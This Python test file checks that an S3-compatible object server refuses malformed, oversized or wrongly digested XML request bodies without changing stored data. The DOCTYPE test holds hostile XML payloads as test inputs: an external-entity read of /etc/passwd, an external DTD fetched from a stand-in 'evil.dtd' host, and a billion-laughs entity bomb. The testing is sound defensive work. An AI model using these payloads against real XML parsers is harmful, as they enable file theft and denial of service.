"""XML bodies over the wire: hostile ones are refused early and change nothing."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterator
from typing import NamedTuple

from objectd.auth.claim import UNSIGNED_PAYLOAD
from objectd.test.s3.wire import BUCKET, Exchange, WireTestCase, authentic, head_bytes
from objectd.testing.http import Connection

MIB = 1 << 20
MISMATCH = "XAmzContentSHA256Mismatch"


class Documented(NamedTuple):
    """An operation that takes a document, which is right as it stands here."""

    method: str
    target: str
    document: bytes
    bytes_max: int


class DocumentTests(WireTestCase):
    def operations(self) -> Iterator[Documented]:
        yield Documented(
            "PUT",
            "/another",
            b"<CreateBucketConfiguration><LocationConstraint>eu-west-1</LocationConstraint>"
            b"</CreateBucketConfiguration>",
            MIB,
        )
        yield Documented(
            "POST",
            f"/{BUCKET}?delete",
            b"<Delete><Object><Key>kept</Key></Object></Delete>",
            4 * MIB,
        )
        etag = self.s3.upload_part(
            Bucket=BUCKET, Key="parts", UploadId=self.upload_id, PartNumber=1, Body=b"x"
        )["ETag"]
        yield Documented(
            "POST",
            f"/{BUCKET}/parts?uploadId={self.upload_id}",
            b"<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>%b</ETag></Part>"
            b"</CompleteMultipartUpload>" % etag.replace('"', "&quot;").encode(),
            4 * MIB,
        )

    def submit(self, operation: Documented, body: bytes, *, outer: bool = False) -> Exchange:
        return self.send_document(operation.target, body, method=operation.method, outer=outer)

    def test_doctype(self) -> None:
        """A document with a DOCTYPE, harmless or not, is malformed; without it is fine."""
        bomb = b"".join(
            b'<!ENTITY %c "%b">' % (97 + n, b"&%c;" % (96 + n) * 10 if n else b"lol")
            for n in range(10)
        )
        for operation in self.operations():
            root = operation.document[1:].partition(b">")[0]
            before = self.contents()
            for doctype in (
                b"<!DOCTYPE %b>" % root,
                b'<!DOCTYPE %b SYSTEM "http://192.0.2.9/evil.dtd">' % root,
                b'<!DOCTYPE %b [<!ENTITY x SYSTEM "file:///etc/passwd">]>' % root,
                b"<!DOCTYPE %b [%b]>" % (root, bomb),
            ):
                exchange = self.submit(operation, doctype + operation.document)
                self.assert_refused(exchange, 400, "MalformedXML", before)
            self.assertEqual(self.submit(operation, operation.document).response.status, 200)

    def test_too_large(self) -> None:
        """A document that is announced as too large is refused before a byte of it is read."""
        for operation in self.operations():
            before = self.contents()
            request = authentic(
                operation.method,
                operation.target,
                {"content-md5": md5_of(b"")},
                payload=UNSIGNED_PAYLOAD,
            )
            connection = Connection(self.server.site)
            length = b"content-length: %d" % (operation.bytes_max + 1)
            connection.send(head_bytes(request, length, b"expect: 100-continue"))
            [response] = connection.responses()
            connection.disconnect()
            refused = Exchange(response, [])
            self.assert_refused(refused, 400, "MaxMessageLengthExceeded", before)

    def test_too_large_in_chunks(self) -> None:
        """A document of unannounced size is read up to the limit and no further."""
        for operation in self.operations():
            before = self.contents()
            padding = b" " * (operation.bytes_max - len(operation.document))
            too_large = self.submit(operation, operation.document + padding + b" ", outer=True)
            self.assert_refused(too_large, 400, "MaxMessageLengthExceeded", before)
            fitting = self.submit(operation, operation.document + padding, outer=True)
            self.assertEqual(fitting.response.status, 200, operation)

    def test_wrong_digest(self) -> None:
        """A document that is not the one that was signed or digested is refused."""
        for operation in self.operations():
            before = self.contents()
            for payload, digested, code in (
                (hashlib.sha256(b"another").hexdigest(), operation.document, MISMATCH),
                (UNSIGNED_PAYLOAD, b"another", "BadDigest"),
            ):
                headers = {"content-md5": md5_of(digested)}
                request = authentic(operation.method, operation.target, headers, payload=payload)
                refused = self.send(request, operation.document)
                self.assert_refused(refused, 400, code, before)


def md5_of(body: bytes) -> str:
    return base64.b64encode(hashlib.md5(body).digest()).decode()
